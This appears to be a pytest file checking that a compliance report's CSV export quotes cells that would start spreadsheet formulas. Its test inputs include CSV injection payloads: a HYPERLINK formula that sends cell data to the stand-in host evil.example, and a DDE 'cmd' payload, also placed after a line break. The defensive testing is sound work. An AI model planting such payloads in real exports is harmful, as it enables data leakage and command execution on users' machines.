"""The compliance report's CSV, as a spreadsheet opens it: no cell is a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from cases.reports.compliance_export import spreadsheet_safe, to_csv
from cases.reports.compliance_report import ComplianceReport, GroupFigures, ReportRequest
from cases.reports.compliance_sql import Dimension

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rCR",
]


def report_of(*customers: str) -> ComplianceReport:
    request = ReportRequest(
        datetime(2026, 1, 1, tzinfo=UTC),
        datetime(2026, 2, 1, tzinfo=UTC),
        datetime(2026, 2, 1, tzinfo=UTC),
        (Dimension.CUSTOMER,),
    )
    return ComplianceReport(request, tuple(GroupFigures((c,), cases=1) for c in customers))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_start_a_formula_is_quoted(text: str) -> None:
    """OWASP's CSV injection guidance: a leading ' makes the cell text."""
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", ["contoso", "", "5", "-5", "-12.50", "a=b", "'quoted"])
def test_other_cells_and_numbers_are_left_as_they_are(text: str) -> None:
    assert spreadsheet_safe(text) == text


def test_a_customer_named_as_a_formula_is_text_in_the_export() -> None:
    rows = list(csv.DictReader(io.StringIO(to_csv(report_of(*FORMULAS, "contoso")), newline="")))
    assert [r["customer"] for r in rows] == ["'" + f for f in FORMULAS] + ["contoso"]
    assert {r["cases"] for r in rows} == {"1"}


def test_a_line_break_inside_a_cell_cannot_start_a_row_of_its_own() -> None:
    """A CR mid-cell, unquoted, would begin a new row with `=...` in its first cell."""
    text = to_csv(report_of("contoso\r=cmd|' /C calc'!A0", "fabrikam\n=1+1"))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[0] for r in rows] == [
        "customer",
        "contoso\r=cmd|' /C calc'!A0",
        "fabrikam\n=1+1",
    ]
